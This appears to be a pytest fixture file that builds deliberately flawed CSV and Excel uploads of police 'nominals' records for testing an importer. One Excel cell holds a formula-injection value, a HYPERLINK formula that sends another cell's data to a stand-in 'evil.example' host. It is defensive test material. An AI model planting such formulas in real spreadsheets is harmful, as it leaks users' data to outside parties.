"""Files a partner agency might send, with deliberate mistakes."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook

TODAY = date(2025, 6, 1)

NOMINALS_CSV = "\n".join([
    "Record ID,Forename,Middle Names,Surname,DOB,Sex,AKA,Post Code,PNC ID,NINO,Mobile,E-mail,VRM,Warnings,Notes",
    "GMP-0001,Zoë,Ann,O’Brien,31/01/1990,Female,Zee;ZoZo,sw1a1aa,98/1234567A,AB 12 34 56 C,"
    "07700 900123,zoe@Example.COM,AB12 CDE,firearms|drugs,Known to use hire cars",
    'GMP-0002,John,,Smith,1985-07-04,M,,M1 1AE,2001/123A,,+44 7700 900456,,,,"Lives with partner, ""Jo"""',
    "GMP-0003,Priya,,Patel,31/02/1990,F,,XX1,12345,AB123,12,not-an-email,!!,bogus,",
    "GMP-0004,,,,,,,,,,,,,,Surname missing",
    "GMP-0005,Ali,,Khan,01/01/2099,M,,,,,,,,,",
    ",,,,,,,,,,,,,,",
    "GMP-0006,Mary-Jane,,Watson,1/2/1975,u,,EC1A 1BB,,,,,,violence,",
    "GMP-0002,Johnny,,Smith,,M,,,,,,,,,Duplicate record id",
    "",
])


@pytest.fixture
def nominals_csv(tmp_path: Path) -> Path:
    path = tmp_path / "gmp-nominals.csv"
    path.write_text(NOMINALS_CSV, encoding="utf-8")
    return path


@pytest.fixture
def nominals_xlsx(tmp_path: Path) -> Path:
    """An Excel export: real dates, numbers for phones, a formula and a blank row."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Nominals"
    ws.append(["Ref", "First name", "Last name", "Date of Birth", "Telephone", "PNC", "Notes"])
    ws.append([101, "Zoë", "O’Brien", datetime(1990, 1, 31), 7700900123, "98/1234567A", "Fine"])
    ws.append([102, "John", "Smith", datetime(1985, 7, 4, 0, 0), "07700 900456", None, 42.0])
    ws.append([None, None, None, None, None, None, None])
    ws.append([103, "Bad", "Date", "31/02/1990", None, "12345", None])
    ws.append([104, "Evil", "Cell", None, None, None, '=HYPERLINK("https://evil.example/?"&A2,"click")'])
    other = wb.create_sheet("Other")
    other.append(["x"])
    path = tmp_path / "upload.bin"  # the format is read from the content, not the name
    wb.save(path)
    return path
